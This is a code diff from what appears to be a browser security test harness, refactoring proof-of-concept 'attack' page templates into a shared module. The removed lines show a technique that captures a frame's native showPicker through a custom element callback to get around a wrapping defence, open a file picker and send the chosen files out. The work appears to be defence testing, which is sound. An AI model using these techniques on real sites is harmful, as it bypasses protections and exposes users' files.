@@ -10,42 +10,7 @@
 // the frame's fallback reads its native showPicker at the end of the call.
 // Served by server.mjs at /attack39-…; tests: attack39.test.mjs.
 
-import { attackPages, grabHelpers, pickerWaysPage } from './uploads.mjs';
-
-/**
- * A frame f whose fallback's custom element `tag`, connected while `go` is set, runs `onConnect(b)` (b: the last
- * frame's window, read as window[i], not through contentWindow, which Silbato wraps). `&dry=1` in the address:
- * only noted, nothing opened (to read the notes of a way that gets through).
- */
-const grabber = (tag, onConnect) => `
-      const dry = new URLSearchParams(location.search).has('dry');
-      const f = frame();
-      let go = false;
-      customElements.define('${tag}', class extends HTMLElement {
-        connectedCallback() {
-          if (!go) return;
-          go = false;
-          const b = last();
-          note('callback: frames ' + window.length + ', b: ' + says(b) + ', is f ' + (b && b.frameElement === f));
-          if (!b || wrapped(b.HTMLInputElement.prototype.showPicker) || dry) return;
-          ${onConnect}
-        }
-      });
-      f.append(document.createElement('${tag}'));`;
-
-/** Open a picker at once with b's native showPicker (inside the person's click). */
-const OPEN_AT_ONCE = `
-          const input = document.createElement('input');
-          input.type = 'file';
-          input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
-          try { b.HTMLInputElement.prototype.showPicker.call(input); note('opened in the callback'); } catch (e) { note('callback: ' + e.name); }`;
-
-/** Keep b's native showPicker, then move f out (moveBefore keeps its window) so the after-look finds no frame. */
-const GRAB_AND_MOVE = `
-          grab(b, 'callback');
-          try { const w = f.contentWindow; park.moveBefore(f, null); note('moved out: same window ' + (f.contentWindow === w)); } catch (e) { note('moveBefore threw ' + e.name); }`;
-
-const STATUS = "setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + (window.notes || []).slice(-6).join(' / '); }, 0);";
+import { GRAB_AND_MOVE, NOTES_STATUS as STATUS, OPEN_AT_ONCE, attackPages, fallbackGrabber as grabber, grabHelpers, pickerWaysPage } from './uploads.mjs';
 
 /**
  * In the person's click: d (connected in box1) holds a frame g (so the survey holds code) and a defined custom
@@ -94,7 +59,6 @@ const holdWay = (tag, trigger, fillWith = 'd.append(f)', call = 'box2.append(d)'
         ${STATUS}
       };
       ${inClick ? "document.getElementById('open').addEventListener('click', run);" : 'run();'}`;
-
 
 /**
  * In the person's click: box2.append(d, e), e detached; d (connected) holds a frame g and a defined custom element
